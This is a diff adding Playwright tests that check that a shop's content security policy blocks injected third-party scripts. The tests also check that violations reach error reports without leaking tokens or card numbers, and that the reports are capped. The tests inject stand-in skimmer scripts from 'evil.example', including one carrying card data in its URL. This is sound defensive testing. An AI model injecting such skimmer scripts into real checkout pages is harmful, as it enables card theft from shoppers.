@@ -1,0 +1,63 @@
+import { expect, type Page, test } from 'playwright/test';
+import { POLICY_VIOLATIONS_MAX } from '#shared/rules/tracking/policy-violation.ts';
+import { PLATFORM_URL, shopUrl } from '../helpers/browser/addresses.ts';
+import { stubExternalServices } from '../helpers/browser/external-services.ts';
+
+/** Adds a script of another site to the page, as injected code would. The policy blocks it. */
+const addScript = (page: Page, src: string) =>
+  page.evaluate((url) => {
+    const script = document.createElement('script');
+    script.src = url;
+    document.body.append(script);
+  }, src);
+
+/** The bodies of the error reports that the page sends. */
+function watchReports(page: Page): string[] {
+  const sent: string[] = [];
+  page.on('request', (request) => request.url().includes('/envelope/') && sent.push(request.postData() ?? ''));
+  return sent;
+}
+
+test('PROOF-6 violations of the policy, also those before the first interaction, reach the error reports of the platform', async ({
+  page,
+}) => {
+  await stubExternalServices(page.context());
+  const sent = watchReports(page);
+  await page.goto('/checkout/express?token=s3cret9', { waitUntil: 'networkidle' });
+  await addScript(page, 'https://evil.example/early-skimmer.js?card=4242');
+  expect(sent).toEqual([]);
+  await page.mouse.move(200, 200);
+  await expect.poll(() => sent.length).toBe(1);
+  await addScript(page, 'https://evil.example/late-skimmer.js');
+  await expect.poll(() => sent.length).toBe(2);
+  expect(sent.join()).not.toMatch(/4242|s3cret9|card=|token=/);
+  const reports = async () => (await page.request.get(`${PLATFORM_URL}/errors`)).text();
+  await expect
+    .poll(reports)
+    .toMatch(
+      /PolicyViolation: script-src-elem blocked https:\/\/evil\.example\/early-skimmer\.js[\s\S]*corvane, http:\/\/localhost:\d+\/(?:cart|checkout)/,
+    );
+  expect(await reports()).toContain('evil.example/late-skimmer.js');
+});
+
+test('PROOF-6 a page reports each violation once, and a few at most', async ({ page }) => {
+  await stubExternalServices(page.context());
+  const sent = watchReports(page);
+  await page.goto('/about', { waitUntil: 'networkidle' });
+  await page.mouse.move(200, 200);
+  await page.waitForLoadState('networkidle');
+  for (const name of ['a', 'a', 'b', 'c', 'd', 'e']) await addScript(page, `https://evil.example/${name}.js?${name}`);
+  await expect.poll(() => sent.length).toBe(POLICY_VIOLATIONS_MAX);
+  // An error of the page still has room.
+  await page.evaluate(() => void Promise.reject(new Error('No room left')));
+  await expect.poll(() => sent.length).toBe(POLICY_VIOLATIONS_MAX + 1);
+});
+
+test('PROOF-6 a store without error reporting sends nothing', async ({ page }) => {
+  const sent = watchReports(page);
+  await page.goto(`${shopUrl('moth-kiosk')}/about`, { waitUntil: 'networkidle' });
+  await page.mouse.move(200, 200);
+  await addScript(page, 'https://evil.example/skimmer.js');
+  await page.waitForLoadState('networkidle');
+  expect(sent).toEqual([]);
+});
